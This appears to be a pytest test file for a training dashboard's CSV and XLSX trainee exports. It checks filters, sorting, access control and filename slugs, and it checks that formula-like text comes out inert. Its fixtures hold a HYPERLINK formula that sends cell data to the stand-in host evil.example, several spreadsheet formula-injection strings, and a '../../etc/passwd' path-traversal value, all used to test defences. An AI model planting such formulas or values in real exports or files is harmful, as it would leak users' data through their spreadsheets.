"""The trainee table as CSV and XLSX: the page's filters and sort over every page, the
file's name, and text that looks like a formula coming out inert in both formats."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest

from tests.test_dashboard import NOW, build_scene, bulk_cases
from tests.test_http_helpers import english, login
from workflow.extensions import db
from workflow.services import exports

pytestmark = pytest.mark.usefixtures("frozen")

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
EVIL_TITLES = {
    "ani": "=1+1",
    "budi": "+62 811 5555",
    "citra": "-5 persen anggaran",
    "dedi": "@SUM(A1:A9)",
}


@pytest.fixture
def frozen():
    import time_machine

    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def scene(world, frozen):
    scene = build_scene(world)
    scene.cases["eko"].trainee.name = EVIL_NAME
    for key, title in EVIL_TITLES.items():
        scene.cases[key].title = title
    db.session.commit()
    return scene


def download(client, user, path: str):
    english(client)
    login(client, user)
    response = client.get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response


def csv_rows(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 with the mark
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_sheet(response):
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return book.worksheets[0]


def cohort_path(scene, fmt: str, query: str = "") -> str:
    path = f"/dashboard/cohorts/{scene.world.cohort.id}/export.{fmt}"
    return path + (f"?{query}" if query else "")


def test_csv_neutralises_formulas(client, scene):
    response = download(client, scene.users["organizer"], cohort_path(scene, "csv"))
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition == "attachment; filename=peserta-angkatan-ii-pka-2026-2026-04-15.csv"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    header, *rows = csv_rows(response)
    assert header[:3] == ["Trainee", "Title", "Agency"]
    by_title = {r[1]: r for r in rows}
    for title in EVIL_TITLES.values():
        assert "'" + title in by_title  # a leading apostrophe: shown as text, never run
    names = [r[0] for r in rows]
    assert "'" + EVIL_NAME in names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_xlsx_keeps_the_text_and_makes_no_formula(client, scene):
    response = download(client, scene.users["organizer"], cohort_path(scene, "xlsx"))
    assert response.mimetype == exports.FORMATS["xlsx"]
    assert response.headers["Content-Disposition"].endswith("2026-04-15.xlsx")
    sheet = xlsx_sheet(response)
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert EVIL_NAME in values and set(EVIL_TITLES.values()) <= values  # exactly as typed
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    rows = {r[1]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    citra = rows[EVIL_TITLES["citra"]]
    assert citra[header.index("Score")] == 85.5
    assert citra[header.index("Due date")].date() == date(2026, 4, 1)  # a real date cell
    assert citra[header.index("Overdue")] == "No"
    assert rows[EVIL_TITLES["budi"]][header.index("Working days in state")] == 6


def test_export_follows_the_filters_and_sort_over_every_page(client, scene):
    bulk_cases(scene.world.cohort, 30, group=scene.groups["g1"])
    organizer = scene.users["organizer"]
    _header, *rows = csv_rows(download(client, organizer, cohort_path(scene, "csv", "page=2")))
    assert len(rows) == 35  # every page, whatever page the table showed
    _header, *rows = csv_rows(
        client.get(cohort_path(scene, "csv", "overdue=yes&sort=due&dir=desc"))
    )
    assert [r[1] for r in rows if not r[1].startswith("Aksi massal")][:2] == [
        "'" + EVIL_TITLES["budi"],
        "Penataan Tata Kelola Perencanaan Pembangunan Desa",
    ]
    dues = [r[9] for r in rows]
    assert dues == sorted(dues, reverse=True)
    _header, *rows = csv_rows(client.get(cohort_path(scene, "csv", "state=completed")))
    assert [r[7] for r in rows] == ["Passed"] * len(rows) and len(rows) == 7


def test_overview_export_spans_every_cohort_overseen(client, scene):
    response = download(client, scene.users["admin"], "/dashboard/export.csv?sort=cohort")
    assert response.headers["Content-Disposition"] == "attachment; filename=peserta-2026-04-15.csv"
    header, *rows = csv_rows(response)
    assert [r[header.index("Cohort")] for r in rows] == ["Angkatan I PKA 2026"] + [
        "Angkatan II PKA 2026"
    ] * 5
    xlsx = client.get("/dashboard/export.xlsx?province=" + str(scene.regions["lampung"].id))
    assert [r[0] for r in xlsx_sheet(xlsx).iter_rows(min_row=2, values_only=True)] == ["Citra Dewi"]


@pytest.mark.parametrize("who", ["trainee", "stranger", "organizer_b"])
def test_no_export_of_a_cohort_not_overseen(client, scene, who):
    english(client)
    login(client, scene.users[who])
    for fmt in ("csv", "xlsx"):
        assert client.get(cohort_path(scene, fmt)).status_code == 404


@pytest.mark.parametrize(
    "name, expected",
    [
        ("Angkatan II PKA 2026", "angkatan-ii-pka-2026"),
        (
            "Pelatihan Kepemimpinan — Angkatan Ⅲ (Kaltim)",
            "pelatihan-kepemimpinan-angkatan-iii-kaltim",
        ),
        ("Établissement / ÜBER", "etablissement-uber"),
        ("../../etc/passwd", "etc-passwd"),
        ("", ""),
        ("x" * 100, "x" * 60),
    ],
)
def test_slug(name, expected):
    assert exports.slug(name) == expected


def test_filename():
    day = date(2026, 4, 15)
    assert exports.filename("Angkatan I", day, "csv") == "peserta-angkatan-i-2026-04-15.csv"
    assert exports.filename(None, day, "xlsx") == "peserta-2026-04-15.xlsx"
    assert exports.filename("***", day, "csv") == "peserta-2026-04-15.csv"
